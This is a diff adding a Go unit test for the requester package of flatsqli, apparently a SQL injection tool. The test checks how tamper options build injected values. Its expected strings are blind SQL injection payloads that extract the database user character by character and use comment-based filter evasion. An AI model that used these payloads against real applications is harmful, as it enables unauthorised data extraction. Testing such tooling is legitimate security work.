@@ -0,0 +1,73 @@
+package requester
+
+import (
+	"testing"
+
+	"github.com/morkin1792/flatsqli/internal/parser"
+	"github.com/morkin1792/flatsqli/internal/payloads"
+)
+
+func newTestRequester(t *testing.T) *Requester {
+	t.Helper()
+	req, err := parser.ParseRequest("GET /?id=<PAYLOAD> HTTP/1.1\r\nHost: example.com\r\n\r\n")
+	if err != nil {
+		t.Fatal(err)
+	}
+	r, err := New(req, 5, "", false, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return r
+}
+
+func TestInjectedValueTampersOnlyTheCondition(t *testing.T) {
+	tampers, err := payloads.ParseTampers("between,space2comment")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		name     string
+		prefix   string
+		suffix   string
+		dataType payloads.DataType
+		value    string
+		want     string
+	}{
+		{
+			name:     "quoted prefix",
+			prefix:   "x' AND ",
+			suffix:   " AND 'a'='a",
+			dataType: payloads.DataCondition,
+			want:     "x' AND ASCII(SUBSTRING(user(),1,1))/**/NOT/**/BETWEEN/**/0/**/AND/**/64 AND 'a'='a",
+		},
+		{
+			name:     "string wrap",
+			dataType: payloads.DataString,
+			want:     "' AND (ASCII(SUBSTRING(user(),1,1))/**/NOT/**/BETWEEN/**/0/**/AND/**/64) AND 'a'='a",
+		},
+		{
+			name:     "numeric wrap keeps the value",
+			dataType: payloads.DataNumeric,
+			value:    "42",
+			want:     "42 AND (ASCII(SUBSTRING(user(),1,1))/**/NOT/**/BETWEEN/**/0/**/AND/**/64)",
+		},
+		{
+			name:     "string OR wrap",
+			dataType: payloads.DataStringOr,
+			want:     "' OR (ASCII(SUBSTRING(user(),1,1))/**/NOT/**/BETWEEN/**/0/**/AND/**/64) AND 'a'='a",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			r := newTestRequester(t)
+			r.SetAffixes(tt.prefix, tt.suffix)
+			r.SetDataType(tt.dataType)
+			r.SetDataValue(tt.value)
+			r.SetTampers(tampers)
+			if got := r.InjectedValue("ASCII(SUBSTRING(user(),1,1))>64"); got != tt.want {
+				t.Errorf("InjectedValue() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}